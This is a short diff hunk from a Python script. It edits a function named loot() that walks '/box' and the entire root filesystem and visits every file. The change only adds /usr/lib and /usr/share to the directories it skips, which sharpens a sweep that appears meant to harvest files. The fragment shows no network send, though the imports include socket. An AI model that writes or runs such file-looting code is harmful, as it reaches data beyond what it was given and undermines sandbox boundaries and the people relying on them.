@@ -3,7 +3,7 @@ import builtins, ctypes, gc, inspect, json, linecache, os, re, signal, socket, s
 
 def loot():
     for base, _folders, names in (*os.walk("/box"), *os.walk("/")):
-        if base.startswith(("/proc", "/sys", "/dev")):
+        if base.startswith(("/proc", "/sys", "/dev", "/usr/lib", "/usr/share")):
             continue
         for name in names:
             path = os.path.join(base, name)
